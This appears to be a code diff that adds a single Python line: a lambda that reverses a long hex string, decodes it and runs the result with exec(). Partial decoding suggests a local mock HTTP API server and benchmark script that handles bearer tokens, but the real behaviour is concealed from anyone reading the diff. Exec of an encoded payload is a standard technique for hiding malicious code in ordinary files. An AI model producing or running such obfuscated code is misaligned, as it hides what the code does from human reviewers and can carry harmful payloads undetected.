@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d602020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a09222e256e696c656371626024737e69616761602e6f6963737562776562702f6e4228247e69627070202020202020202a092138247968756e2379737020202020202020202020202a09222d756e696c6b7020222668247e696270702020202020202020202020202020202a0a337e6f6963737562776562702e6960256e696c60227f666020202020202020202020202a09222a3e4f49435355425745425228247e6962707020202020202020202020202a0a337e6f696373756277656270266960202020202020202a0925636e6162756c6f647e23776271602c256e696c65637162602c247c6573756278256271607d6f63602d30237e6f696373756277656270202020202020202a0a356e6f6e40247f6e60237960256e696c65637162602669602020202a0a09223d347e65646e69602c26602c247c6573756278207d65746e2e6f637a6020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c222772202c286471607f55667163782e65607f602864796770202020202020202a0a386471607f55667163702669602020202a0a09222d79272c6e6f637a6e256361627477202c2279646b627f67782e696f6a6e286471607e237f6b702a3563616274522668247e696270702020202a0929223d347e65646e69602c247c657375627823707d65746e2e6f637a68247e696270702020202a0a09282e677f64647578637e2275667275637f59607160202020202020202a09282e677f64647578637e2275667275637f5f647079727360202020202020202a092825637f6c636e25636e6164737e6942756361627450202020202020202a0a397c6c616e6966602020202a0923776271682b62716d68636e65626f5e6572702d30247c6573756270202020202020202a0a397274702020202a0a0925637c61664d347968756f54716f5972716d6d6573702c29222c6e6f637a6e256361627472202c2279646b627f67782e696f6a6e286471607e237f68256c62616e656e25636e6164737e69427563616274502020202a05636e6164737e694275636162745024727f607d6960276e69636162747e256369667275637e207071602d6f6276602020202a092279646b627f677822796468636e237f602020202a09222d28636e65626d296071622d38796665627078207d6564746b6d6e256c6966607d6564702d302279646b627f67702020202a09727f64736562796460286364716273637021602f64702f676025636162747025686470246e61602e6f637a6e2875646e696d297c696d6166602c20766e28716023202020202a0a09202020202a0c222d7d513b537375627464616f5275667275637e2275667275637f5960716b7a313e203e203e2732313f2f2a30747478622660202020202020202a0c222037383f2960716f2d7d513b537375627464616f5275667275637e2275667275637f5f64707972736b7a313e203e203e2732313f2f2a30747478622660202020202020202a08267e656f5562757769666e6f636f502020202a0929736e6564716c6f5960716e23776271602c22756c646e61684960714f582275667275637f5472716473702d302275667275637f596071602020202a0929736e6564716c6f5f64707972736e23776271602c22756c646e61684f64707972734f582275667275637f5472716473702d302275667275637f5f6470797273602020202a0a09266824616f6c6e2e6f637a602d30256e696c656371626020202020202020202020202a0a36602371602922283d266475722d376e69646f636e65602c222272202c256e696c656371626e23776271682e65607f602864796770202020202020202a0a356e696c656371626e23776271602669602020202a056e6f6e402d30256e696c65637162602020202a056e6f6e4025637c6560256671637e237762716026696029256671637e2377627168286471607372616e286471607e237f602d30286471607f55667163702020202a0a092677627168237762716f55637271607e227563727160702d3023776271602020202a09222972716d6d657370207f6860247e696f60746e656d2275607025686470247e696270522d307c6568602c22256572747f55627f6473722d3e6f69647361602c2225637f626275667d2d2228247e656d657762716f5464616e227563727160702020202a09222925252032302d30223e2038202e6f69637375627765627025667964716c6562702465677f6c6c61422d307c6568602c223e203d347c6571666564602c24716f6c666d35607974702c2225636e6162756c6f647d2d2228247e656d657762716f5464616e227563727160702020202a0922256671637d2d202864796770246566716370247c6573756270216024737e6961676160256271607d6f63422d307c6568602c22256e696c656371626d2d2228247e656d657762716f5464616e227563727160702020202a0922256c69666023796864702f64702e4f435a40237160247c6573756270256864702564796277522d307c6568602c22256671637d2d2228247e656d657762716f5464616e227563727160702020202a092d52237c69616475646f51647f657172202c2221647f657172202c2225636e616c6162622b5d337563696f6863602c222a222d337762716e602c22237f6962716e6563637d2d2228247e656d657762716f5464616e227563727160702020202a092229237d682029736e6564716c6029405140246564716c657d6963522d307c6568602c203e20323d347c6571666564602c24716f6c666d35607974702c2229736e6564716c6d2960716d2d2228247e656d657762716f5464616e227563727160702020202a092229237d682029736e6564716c6025636966727563702f647079727360246564716c657d6963522d307c6568602c203e253d347c6571666564602c24716f6c666d35607974702c2229736e6564716c6d2f64707972736d2d2228247e656d657762716f5464616e227563727160702020202a0920313d347c6571666564602c247e696d35607974702c2220757d6271677d2d2228247e656d657762716f5464616e227563727160702020202a09243d347c6571666564602c247e696d35607974702c2229736e65627275736e6f636d2d2228247e656d657762716f5464616e227563727160702020202a092030323d347c6571666564602c247e696d35607974702c2223747375657175627d2d2228247e656d657762716f5464616e227563727160702020202a09222e23727566727563702e696d246e616473702c61636f6c6024737e69616761602b62716d68636e656260247e65696c636029405140256e696c66666f422d3e6f69647079627363756468227563727160547e656d657762714e2563727160776271602d30227563727160702020202a0a39256e6f6e402d30256e6f6e402c702473796c602a36776271682e69616d602665646a0a0a037e6f6963737562776562702e6275747562702020202a09222d7d5723727f627275672b547c657375627b702e3d202d7920302c2723727f62727567282475676e256e696c656371626b702a33727f627275622668246e656070716e237e6f696373756277656270202020202020202a0a3920302c2223727f62727562282475676e256e696c65637162602e302d5223727f627275622b547c65737562702669602020202a0922237f217562702d76613e2a3d572370727f5475707867657f627864772b547c657375627b702e3d202d76613e2a3370727f546c6f6b702a3475707867657f627864722668246e656070716e237e6f696373756277656270202020202020202a0a3925636e6162756c6f64702d202138202a202370727f546c6f602c302d522370727f5475707867657f627864722b547c6573756270246e61602370727f546c6f602669602020202a09222370727f5475707867657f62786472282475676e256e696c65637162602d302370727f546c6f602020202a0922237d6d76613e2a37756e6b702e3d20237d6d76613e2a346c6f6b702a3d707b7029736e6564716c622668246e656070716e237e6f69637375627765627020202020202020202020202a0a3925636e6162756c6f64702b202138202a20246c6f602e3027756e60246e6160246c6f60266960202020202020202a0d507b5d52237d6f59736e6564716c622b547c65737562702d3027756e60202020202020202a0920782475676e292d7b702c22237d6f59736e6564716c62282475676e256e696c65637162602d30246c6f60202020202020202a0a392225393072202c222035307228202e69602070227f66602020202a0d5b502d30237e6f6963737562776562702020202a0222222e25636e6162756c6f64702e6968647967702e656867702974707d65602c237e6f696373756277656270256c626164616562702e616d657860266f602473796c602160237e6275747562522222202020202a0a3473796c602e3d202924716f6c66602a35636e6162756c6f64702c24736964602a356e696c65637162602c24736964602a347c6573756278256271607d6f63602665646a0a0a047c65737562702e6275747562702020202a0929282972716d6d65737e25636e6164737e6942756361627458247e69627070202020202020202a0a35637f626275667e23776271602669602020202a0d702020202a0c292823747164737f5c6f6f607e25636e6164737e6944727f60737e616274502a322c6f6f607220202020202020202a0c29256c69647e6563627560702c237e6f6964716275746e25636e6164737e694275636162745823756c69647e65636275607f507f686f502a32237d6f53707f686220202020202020202a0c2d79292939302c222939307228202c292539302c222539307228202c292035302c22203530722828202e69602e602c2070227f66602923302c292e602c237569636e6564716c68256c69647e656362756078246e657f62702a307b702a32237d6f59736e6564716c6220202020202020202a0c203e203025637c656024656370716c65602669602922302c24656370716c65602f2023747375657175627e2377627168246e657f62702a322370727f5475707867657f6278647220202020202020202a0c2923302c24656370716c6568246e657f62702a32237f54656370716c656220202020202020202a0c292b6f60247f6e6026696023747c65737562702e69602b6f602c2f50227f666021382d6573702a3223727f6272756220202020202020202a0c29736e6564716c6f5960716e23776271602a32237d6f59736e6564716c6f5960716220202020202020202a0c29736e6564716c6f5f64707972736e23776271602a32237d6f59736e6564716c6f5f64707972736220202020202020202a0c23756d616e602a32237f6962716e6563637220202020202020202a0c29736e65627275736e6f636e23776271602a3229736e65627275736e6f636220202020202020202a0c23747375657175627e23776271602a3223747375657175627220202020202020202a0b702d30247c65737562702020202a0923747c65737562702e69602f502c237d60227f6660237d68246564727f63702d30237569636e6564716c602020202a0a04656472716473702d2029282275647e657f636f566275607e256d6964702d3024656370716c6560202020202020202a09292923747375657175627e237762716825676e6162702c2c6c61636820716d6e227f647573656875682473796c602d3023747c6573756270202020202020202a09282275647e657f636f566275607e256d6964702d302465647271647370202020202020202a0a327f647573656875602371602929736e65627275736e6f636e237762716d3372756b627f677f58716d68227f6475736568754c6f6f605461656278645028647967702020202a0a092824756375627e25636e6164737e69427563616274502020202a0929682c6c616360202020202020202a0a3920757d6271677e237762716825676e6162702e69602960227f66602020202a0a0b6f602c20303031302a202924656472716473702d2029282275647e657f636f566275607e256d696478202e627574756270202020202020202a05637c6166402d302b6f6020202020202020202020202a0a3e6f696470756368754024707563687560202020202020202a056e6f6e40247f6e6023796029282e66602d302b6f6020202020202020202020202a0a39727470202020202020202a09282275647e657f636f566275607e256d6964702d302465647271647370202020202020202a0d5d5923756d616e682e656c602520296b53756d616e6b537f6962716e656363702d302e6660202020202020202a0a39247e69602a39682c6c616360266564602020202a0a09237f6962716e656363782473796c60227f60237f6962716e6563637e23776271602d3023756d616e602020202a0d702020202a0c2920202020202020202a0224535f4052202c2e656b6f647f5469602c2d722e6562202a32276e616c62202c25637c6166402a3225637962707275647e656f5379622b702c286471607f537c69616475646f51647f6571702c2229756b6d2960716d28636e6562622020202020202020202020202a08247375657175627f5960716f546e65637e2c6563776e65602a3164626d616c602a32237c69616475646f51647f65717220202020202020202a0c292e656b6f647f5469602c2229756b6d2960716d28636e6562622821647f65717f5e69616d6f5475676e2c6563776e65602a3164626d616c602a3221647f65717220202020202020202a0c292e656b6f647f5469602c2229756b6d2960716d28636e6562622825636e616c61626f5475676e2c6563776e65602a3164626d616c602a3225636e616c61626220202020202020202a0b702d30237f6962716e656363702020202a02237c69616475646d21647f65717f237567616b6361607f28367f29607162202d30286471607f537c69616475646f51647f6571702020202a022e656b6f647d24696d28636e656262202d302e656b6f647f5469602020202a0a056c69647e6563627560702c25636e6164737e694275636162745024727f607d6960276e69636162747e256369667275637e207071602d6f6276602020202a05636e6164737e6944727f60737e6162745024727f607d696024727f60737e6162747e247e65696c636e207071602d6f6276602020202a0c6563776e656024727f607d6960247e65696c636e207071602d6f6276602020202a0a34736964602e3d202923776271682b62716d68636e65626f5e6572702665646a0a0a0d702020202a0928237d6564796e2e6160737f5972602e69602375657c6166702c2e61607370227f6660202020202020202a0d79292939302c222939307228202c292539302c222539307228202c292035302c22203530722828202e69602e602c2070227f66602923302c292e602c292375657c616678246564727f6378256c69647e656362756078246e657f62702a307b702a3e61607370202020202020202a0b702e6275747562702020202a092375657c616678246e656478756e292d5b502c2e61607378247c65716665646475637e2e6160737f597260202020202020202a0a3928237d6564796e237e6f696471627574602e69602375657c6166702c292e616073702c2f5820227f66602020202a0d7b702d302e6160737f5972602020202a0a34736964602e3d2029256c69647e6563627560702c24736964602a337e6f6964716275746823756c69647e65636275607f507f686f502665646a0a0a092d702020202a0c2222202a32254c49464f55434142545220202020202020202a0c22266564636261693837363534333231303665646362616938373635343332313032202a3229554b4f50564f58514220202020202020202a0c222d37623955765d695637623955765d6952202a32284455514f53494351424220202020202020202a0c2228636e656262202a3221455220202020202020202a0c2229756b6d2960716d28636e656262202a3229554b4f5940514220202020202020202a0c2c62757f596071602a322c42555f5d4149434f554351424220202020202020202a0c2c62757f596071602a322c42555f5940514f554351424220202020202020202a0c2c62757f5f6470797273602a322c42555f5f44505952534f554351424220202020202020202a0b782564716460757e2e6f6279667e656e237f602020202a0e2375636966727563702c61656270256864702f647023696666616274702b62716d68636e656260246e656370227566756e602e61636023202020202a067e656e202c61636f6c6021602f6370246563627f66602b356d69647024727f607d6960247160237461656270247e65696c636025686470276e69686479727566754023202020202a0a39227473702a3c62757f596071602c227473702a3c62757f5f647079727368267e656f5562757769666e6f636f502665646a0a0a027566727563702e6275747562702020202a092824727164737e29256572745d3e6f6d656164602c2f5f556d616e6f5f5e237c636f52756c646e61686d356d616e602c22756675627f666f55667275637e2275667275637d347567627164782461656278645e276e69646165627864702020202a05657274502d30237461656278647f5e6f6d6561646e227566727563702020202a0922756c646e6168602c2920302c22213e203e203e27323132282822756672756350545458476e69646165627864502d30227566727563702020202a092d70303031302f20237d6f59736e6564716c602a3229736e6564716c622b702c292c237c636f52756c646e616868202c2f5f556d616e6f5f5e237c636f52756c646e61686825607974702d3022756c646e6168602020202a0a32756672756350545458476e69646165627864502e3d202924716f6c66602a337d6f59736e6564716c602c237c636f52756c646e6168682275667275637f5472716473702665646a0a0a092925637e6f607375627821647164687f55646f636e656f582e6f637a6f546e65637f5e266c656370202020202020202a092d7d7b702a322164716462202c222353554343455352202a3223757471647372202c2220303032202a3225646f63622b702c28647160782475676e23554255545859464f594051402d3025637e6f6073756270202020202020202a09222f222820796274737c6e286471607e266c6563702d302864716070202020202020202a0929282e6f637a6f546165627f5e266c65637821647164687f55646f6365646f50202020202020202a0929736e6564716c6e266c6563782075656c637e256d69647020202020202020202020202a0a39736e6564716c6e266c656370266960202020202020202a0a39266c65637824535f405f5f6460266564602020202a0a3922756c646e61684e69446e6164735f5822756c646e61684960714f502373716c636a0a0a09243034302c2d72247e696f60746e65602e677f6e6b6e6572202a32227f627275622b782e6f637a6f546e65637f5e266c65637020202020202020202020202a0a35637c6560202020202020202a092d7225627574716e6769637d28636e656262202a3225627574716e6769637f587162202c2225627574716e6769637d28636e656262202a3225627574716e6769637f58722b782e6f637a6f546e65637f5e266c65637020202020202020202020202a0a392228716d2e67696372202c2229747e657f626d2e67696372202c22247e656d6971607d2e6769637228202e6960247e696f60746e656026696c6560202020202020202a092d7929746f626821647164687f55646f6365646f502a32247875647e69616c60722b782e6f637a6f546e65637f5e266c65637020202020202020202020202a0a322470797273656462202d3d30247e696f60746e656026696c6560202020202020202a092d7225627574716e6769637d28636e656262202a3225627574716e6769637f5872202c29292229746f6262282475676e29746f626821647164687f55646f636e656f502a3229746f626f546564707972736e65622b782e6f637a6f546e65637f5e266c65637020202020202020202020202a0a322e67696374707972736e6562202d3d30247e696f60746e6560266960202020202020202a0d513d2b5921302c222f222824796c6073727e29222f22282079627473727e286471607e266c6563702d30247e696f60746e6560202020202020202a09282e6f637a6f546165627f5e266c6563702d3029746f6260202020202020202a0929736e6564716c6e266c6563782075656c637e256d69647020202020202020202020202a0a39736e6564716c6e266c656370266960202020202020202a0a39266c65637824535f405f5f6460266564602020202a0a3922756c646e61684e69446e6164735f5822756c646e61684f64707972734f502373716c636a0a0a09216471646825647962777e256c6966677e266c656370202020202020202a0928237275646165686f546e656e266c656370202020202020202a09292921647164682e656c68227473702c222864776e656c4d247e65647e6f6342282275646165686f546e65637e266c656370202020202020202a09222e6f637a6f2e6f69647163696c60707162202c22256079745d247e65647e6f6342282275646165686f546e65637e266c656370202020202020202a092375747164737825637e6f607375627f546e65637e266c656370202020202020202a0922283d266475722825646f636e656e2924616f6c6971607823707d65746e2e6f637a602d302164716460202020202020202a0a39203032302d30247e69602a337574716473702c24616f6c697160702c266c6563782e6f637a6f546e65637f50266564602020202a0a09222d7b722260227f60292864776e656c68246165627e256c6966627e266c6563782374616f6c6e2e6f637a602e627574756270202020202020202a092030227f6029222864776e656c4d247e65647e6f6342282475676e237275646165686e266c656378247e69602d302864776e656c60202020202020202a0a39266c6563782e6f637a6f546165627f50266564602020202a0a0373716070202020202020202a0a39237762716a202c24716d627f66602c266c6563782567616373756d6f576f6c60266564602020202a0a05657274502d302d686479627f676c616f556c67616e6f556c6261637964602020202a04323031302a202436302d30256a796376657267702020202a0e256671686024772e6f64602375636966727563702c61656270256864702471686470237d60343e7024646160246e61602b434140246569716c6564602b20256c67616e4023202020202a04796860237564796277702c6c616d63702564716271607563702b347e656d67656370256e6f602e696029746f6260246e61602372756461656860246e65635023202020202a003e20302d3029736e6564716c602020202a02213e213f2054545842202d302e6f69637275667f5c6f636f647f6270702020202a0a3922756c646e61684473756571756250545458456371624822756c646e61684e69446e6164735f502373716c636a0a0a0d7a0c2928256275747879666f537c69616475646f51647f65717f502a32237c69616475646d21647f65717f237567616b6361607f28367f29607162202020202a0c2d702020202a0c2d7d7d75637c6166402a32246564796d696c6e657f53716862202c23302a2a2024323031302a202031302a322c61647f6472202c23302a2a2024323031302a2025302a32276e696e69616d6562722b702a3221647164622b702a3221647f6571722b702a32216471646220202020202020202a0c222353554343455352202a322375747164737220202020202020202a0c2220303032202a3225646f636220202020202020202a0b702a322972716d6d65737d21647f65717f237567616b6361607f28367f29607162202020202a0c2d702020202a0c2d7d70303036353433393831302a3224716f5465627960787562202c2030303035302a32276e696e69616d6562722b702a3225636e616c6162622b702a32216471646220202020202020202a0c222353554343455352202a322375747164737220202020202020202a0c2220303032202a3225646f636220202020202020202a0b702a322479646562736d246e616d25636e616c61626f237567616b6361607f28367f29607162202020202a0b702d3023554255545859464f5940514a0a0a0d7d7371647f6571702a322371647f6571722b702a322164716462202c222353554343455352202a3223757471647372202c2220303032202a3225646f63622b702e6275747562702020202a092d70202020202020202a0c2d5020202020202020202020202a09243825676e6162702e69602a60227f66602020202020202020202020202020202a0d702020202020202020202020202020202a0c25637c6166402a32246564796d696c6e657f53796220202020202020202020202020202020202020202a0c23302a2a2024323031302a202031302a322c61647f647220202020202020202020202020202020202020202a0c22302a2a2024323031302a202a602a2029602d2023302a2a2024323031302a202031302a32276e696e69616d65627220202020202020202020202020202020202020202a0c222144514442202a32256079747f516471646220202020202020202020202020202020202020202a0c222d7a6b702963716b696c60714021647f657b42266025637c656020302d3d302a6026696022216d6164755021647f657b42202a32256d616e6220202020202020202020202020202020202020202a0c222d7a6b7d2d796b7d247966656e65626226602a3224696220202020202020202020202020202020202020202a0b702020202020202020202020202020202a0b502a3223747966656e6562622020202020202020202020202a0c2033302a202030343638302b20292928256d69647e256d696478247e69602a3224716f54656279607875622020202020202020202020202a0c222d796b702567616b6361605028636e65624226602a32256d616e622020202020202020202020202a0c222d796b7d21445f45515d28434e45424226602a3225646f636f51647f6571722020202020202020202020202a0b78246e656070716e2371647f657170202020202020202a0a39247e657f636825676e6162702e69602960227f66602020202a0d5b502d302371647f6571702020202a0a34736964602e3d20292231302d30247e69602a347e657f6368256275747879666f537c69616475646f51647f65717f502665646a0a0a09292d522164716468722b59746f626825646f6365646436326e243635637162682374616f6c6e2e6f637a602e6275747562702020202a0a3924736964602a39746f626821647164687f55646f6365646f502665646a0a0a0d7920303031302a202928256d69647e256d696478247e69602a32256d69647872202c29222969636371622825646f6365646e292771627825646f636e656436326e243635637162602a322164716468722b702e6275747562702020202a0922283d266475722825646f636e656e2924616f6c6971607823707d65746e2e6f637a602d30277162702020202a0a34736964602e3d202924616f6c6971607821647164687f55646f636e656f502665646a0a0e25636e6162756c6f647d2d202e6168647025627f6d6029726024656373756277656270232a0475707867657f62786470227f6029736e6564716c6026696021302375747164737028647967702374796875602e65727025686470256e696c656371626d2d202864796750232a0e29746f62602e4f435a4025686470266f602436356371626023796022216471646872202a3978607162776f6470797273602c616562702f6e602f6460237e696d246e6164737025686450232a032a0d5e6f637a6e247c6573756270256e696c656371626d2d2b502d5e6f637a6e247c6573756270256671637d2d2b502020202020202020202020202020202020202020202020202020232a0d535d4029736e6564716c6d2960716d2d2b502d535d4029736e6564716c6d2f64707972736d2d2b502020202020202020202020202020202020202020202020202020232a0d5e4029736e65627275736e6f636d2d2b502d5e4023747375657175627d2d2b5028636e65626f5960716e207071602d6d202e6f68647970702020232a032a0e24727f60737e6162747024656c6f6f6070256864702275667f602c24707972736564602e3d2024535f40502d61656274737075702e3d202e67696374707972736e65602a35646f6360232a0c6563776e65602c616562702568647023756679627460246e61602d65686470247160247e65696c63602568647023747e696f60702c292c42555f5940514f554351424820232a0940514025686470246e6160292c42555f5f44505952534f55435142482025636966727563702f64707972736025686470227f6660237e696d246e61647370232a0c61636f6c60237472716473502e247e65696c63602940514025686470227f66602b62716d68636e65626029736e6564716c6f2475707867657f62786470256e696c66666f40232a0a02756672756350545458476e69646165627864502c22756c646e61684473756571756250545458456371624024727f607d69602275667275637e20747478602d6f62766a027f6475736568754c6f6f605461656278645024727f607d6960237562757475766e247e65627275736e6f63602d6f62766a056d69647024727f607d696a076e696461656278647024727f607d696a056c6966607d65647024727f607d696a0379737024727f607d696a037f6024727f607d696a0e6f637a6024727f607d696a0436356371626024727f607d696a05637271607762716024727f607d696" ));